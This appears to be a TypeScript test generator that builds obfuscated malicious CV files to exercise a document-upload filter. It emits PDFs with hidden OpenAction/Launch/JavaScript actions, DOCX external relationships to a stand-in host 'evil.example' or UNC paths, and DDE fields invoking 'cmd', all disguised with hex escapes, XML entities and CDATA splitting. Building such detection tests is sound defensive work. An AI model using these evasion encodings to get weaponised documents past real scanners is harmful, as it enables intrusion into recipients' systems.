/** What we must never accept, encoded in every way some reader understands. */
import type { Attack } from './attack.ts';
import type { Chance } from './chance.ts';
import { makePdf } from './pdf-files.ts';
import { bodyXml, fieldXml, makeDocx, relationBase } from './zip-files.ts';

export const misspell = (chance: Chance): Attack =>
  chance.pick([misspellPdf, misspellRelation, misspellField])(chance);

const asEntity = (letter: string, chance: Chance): string => {
  const code = letter.codePointAt(0) ?? 0;
  return chance.pick([
    letter,
    letter,
    `&#${code};`,
    `&#x${code.toString(16)};`,
    `&#x000${code.toString(16)};`,
  ]);
};

const inEntities = (text: string, chance: Chance): string =>
  Array.from(text, (letter) => asEntity(letter, chance)).join('');

const inEitherCase = (text: string, chance: Chance): string =>
  Array.from(text, (letter) => (chance.isHit(0.5) ? letter.toUpperCase() : letter.toLowerCase())).join('');

function misspellPdf(chance: Chance): Attack {
  const name = (text: string) =>
    `/${Array.from(text, (letter) => (chance.isHit(0.4) ? `#${letter.charCodeAt(0).toString(16)}` : letter)).join('')}`;
  const space = () => chance.pick([' ', '\n', '\r\n', '\t', ' % note\n', '\0']);
  const action = chance.pick(['JavaScript', 'Launch', 'SubmitForm', 'ImportData', 'GoToR', 'Rendition']);
  const inner = `<<${space()}${name('S')}${space()}${name(action)}${space()}${name('X')} (x)>>`;
  const key = chance.pick(['OpenAction', 'A', 'AA', 'PA']);
  const isFar = chance.isHit(0.5);
  const catalog = `${name(key)}${space()}${isFar ? '90 0 R' : inner}`;
  const objects = isFar
    ? [`90${space()}0${chance.pick([' ', '\n', ''])}obj${space()}${inner}\nendobj\n`]
    : [];
  return { title: `${catalog} in a PDF`, name: 'cv.pdf', bytes: makePdf({ catalog, objects }), isEvil: true };
}

function misspellRelation(chance: Chance): Attack {
  const kind = chance.pick(['attachedTemplate', 'oleObject', 'image', 'frame', 'subDocument', 'aFChunk']);
  const quote = chance.pick(['"', "'"]);
  const space = () => chance.pick([' ', '\n', '\t', '  ']);
  const attributes = [
    `Id=${quote}r${chance.pick(['', '>', '/&gt;', '--&gt;'])}${quote}`,
    `Type${space()}=${space()}${quote}${inEntities(`${relationBase}/${kind}`, chance)}${quote}`,
    `Target=${quote}${inEntities(chance.pick(['https://evil.example/a', 'file://host/a', '\\\\host\\a']), chance)}${quote}`,
    `TargetMode=${quote}${inEntities(chance.isHit(0.5) ? 'External' : inEitherCase('External', chance), chance)}${quote}`,
  ].toSorted(() => (chance.isHit(0.5) ? 1 : -1));
  const prefix = chance.pick(['', 'p:']);
  const list = `<${prefix}Relationship${space()}${attributes.join(space())}${space()}/>`;
  const xml = `<${prefix}Relationships xmlns${prefix ? ':p' : ''}="http://schemas.openxmlformats.org/package/2006/relationships">${list}</${prefix}Relationships>`;
  const bytes = makeDocx({ documentRelations: xml });
  return { title: `${list} in a DOCX`, name: 'cv.docx', bytes, isEvil: true };
}

function misspellField(chance: Chance): Attack {
  const word = inEitherCase(chance.pick(['DDE', 'DDEAUTO', 'INCLUDETEXT', 'LINK', 'IMPORT']), chance);
  const letters = Array.from(` ${word} cmd `, (letter) =>
    chance.isHit(0.2) ? `<![CDATA[${letter}]]>` : asEntity(letter, chance),
  );
  const pieces: string[] = [''];
  for (const letter of letters) {
    if (chance.isHit(0.3)) pieces.push('');
    pieces[pieces.length - 1] += letter;
  }
  const prefix = chance.pick(['w', 'x', 'W']);
  const document = bodyXml(fieldXml(...pieces))
    .replaceAll('<w:', `<${prefix}:`)
    .replaceAll('</w:', `</${prefix}:`)
    .replace('xmlns:w=', `xmlns:${prefix}=`)
    .replaceAll(' w:', ` ${prefix}:`);
  return { title: `a field ${word} in a DOCX`, name: 'cv.docx', bytes: makeDocx({ document }), isEvil: true };
}
